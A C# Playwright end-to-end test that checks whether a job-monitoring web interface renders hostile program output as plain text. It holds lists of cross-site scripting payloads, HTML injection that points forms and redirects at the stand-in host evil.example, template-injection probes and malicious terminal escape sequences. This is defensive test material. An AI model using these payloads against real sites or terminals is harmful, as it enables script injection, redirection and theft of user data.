using System.Text;
using Microsoft.Playwright;
using MpiLab.Contracts;
using MpiLab.EndToEnd.Stage;
using MpiLab.Tests.Support;
using static Microsoft.Playwright.Assertions;

namespace MpiLab.EndToEnd;

/// <summary>What a program writes is text, whatever it looks like.</summary>
[Collection(nameof(Lab))]
public sealed class HostileOutputTests(Lab lab)
{
    private const string Alarm = "window.alarmed = true";

    private static readonly string[] Markup =
    [
        $"<script>{Alarm}</script>",
        $"<img src=x onerror=\"{Alarm}\">",
        $"<svg onload=\"{Alarm}\"><animate onbegin=\"{Alarm}\" attributeName=x></svg>",
        $"\"'><iframe srcdoc=\"<script>parent.{Alarm}</script>\"></iframe>",
        $"<a href=\"javascript:{Alarm}\">here</a>",
        $"</span></div></section><style>* {{ display: none }}</style><form action=//evil.example>",
        "<meta http-equiv=refresh content=\"0;url=//evil.example\"><base href=//evil.example>",
        "&lt;script&gt; &#60;b&#62; %3Cb%3E {{7*7}} ${7*7} @(7*7)",
    ];

    private static readonly string[] Escapes =
    [
        "\e]0;stolen title\a after a title",
        $"\e]8;;javascript:{Alarm}\e\\link\e]8;;\e\\ after a link",
        "\e]52;c;c3RvbGVu\a after a clipboard",
        "\e[2J\e[H\e[999;999H after a cleared screen",
        "\e[31mred\e[0m \e[38;2;1;2;3mmine\e[0m \e[999999999999m after colours",
        "\eP+q544e\e\\ \e_x\e\\ \e^x\e\\ \eX after strings",
        "\u202Eright to left\u202C \u200B\uFEFF after direction",
        "over\rwritten\b\b\b after a return",
        "\0\u0001\u007F\u009B31m after controls",
    ];

    [Fact]
    public async Task HostileOutput_IsTextAndRunsNothing()
    {
        var client = lab.Host.Client;
        var started = await client.StartAsync("sleep", ranks: 1, new { seconds = 600 });
        // Before it has, what is appended here might be overwritten.
        await client.SpokenAsync(started.Id);
        await using var window = await lab.OpenAsync();
        var (page, job) = (window.Page, window.Job);
        await page.GotoAsync(new Uri(lab.Host.Address, $"/jobs/{started.Id}").ToString());
        var title = await page.TitleAsync();

        var ranks = Path.Combine(lab.Host.Data, "jobs", $"{started.Id}", "1", "ranks");
        await WriteAsync(Path.Combine(ranks, "0.out"), [.. Markup, .. Escapes, "\e[0m\e\\the end"]);
        await WriteAsync(Path.Combine(ranks, "0.err"), Markup);
        await WriteAsync(Path.Combine(ranks, "0.events"), Markup.SelectMany(Events));
        await Expect(job.Log).ToContainTextAsync("the end");
        await Expect(job.Results).ToContainTextAsync(Markup[^1]);

        var drawn = (await job.DrawnAsync()).Select(row => row.Text).ToList();
        foreach (var line in Markup) drawn.ShouldContain(line);
        drawn.ShouldNotContain(text => text.Contains('\e'));
        await ClickEverythingLinkedAsync(job.Log);
        (await page.EvaluateAsync<bool>("'alarmed' in window")).ShouldBeFalse();
        (await page.TitleAsync()).ShouldBe(title);
        page.Url.ShouldEndWith($"/jobs/{started.Id}");
        (await page.Locator("main :is(script, iframe, meta, base, object, embed, img[onerror], [onload], a[href^='javascript:'])").CountAsync()).ShouldBe(0);
        window.Complaints.ShouldBeEmpty();
        await client.CancelAsync(started.Id);
        await client.EndOfAsync(started.Id);

        // The pages that come from the server say it again.
        await ReadAgainAsync(window, started.Id);
    }

    private async Task ReadAgainAsync(Window window, long id)
    {
        foreach (var path in new[] { $"/jobs/{id}", "/jobs", $"/programs/{Uri.EscapeDataString(Markup[1])}", $"/programs/hello?ranks={Uri.EscapeDataString(Markup[1])}" })
        {
            await window.GoAsync(lab.Host.Address, path);
            (await window.Page.EvaluateAsync<bool>("'alarmed' in window")).ShouldBeFalse(path);
        }
        window.Complaints.Where(text => !text.Contains("404", StringComparison.Ordinal)).ShouldBeEmpty();
    }

    private static async Task ClickEverythingLinkedAsync(ILocator log)
    {
        foreach (var link in await log.Locator("a").AllAsync()) await link.ClickAsync();
    }

    private static IEnumerable<string> Events(string text, int number)
    {
        var axis = new PlotAxis(text, text);
        LabEvent[] events =
        [
            new ProgressEvent(0.5, text),
            new ResultEvent($"r{number}", text, number, text),
            new PlotEvent($"p{number}", text, axis, axis),
            new SeriesEvent($"p{number}", text, [0, 1], [0, 1]),
            new ArtifactEvent(text, text),
        ];
        return events.Select(item => System.Text.Json.JsonSerializer.Serialize(item, LabJson.Options));
    }

    // As a rank does, behind what the program wrote itself.
    private static Task WriteAsync(string path, IEnumerable<string> lines) =>
        File.AppendAllTextAsync(path, string.Concat(lines.Select(line => line + "\n")), new UTF8Encoding(false));
}
